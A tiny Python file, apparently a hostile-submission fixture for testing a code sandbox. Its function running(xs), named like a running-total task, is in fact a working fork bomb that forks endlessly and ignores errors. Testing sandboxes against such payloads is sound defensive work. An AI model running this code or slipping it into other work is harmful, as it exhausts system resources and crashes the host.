"""Attack: a fork bomb."""

import os
from _base import Counter, total  # noqa: F401


def running(xs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
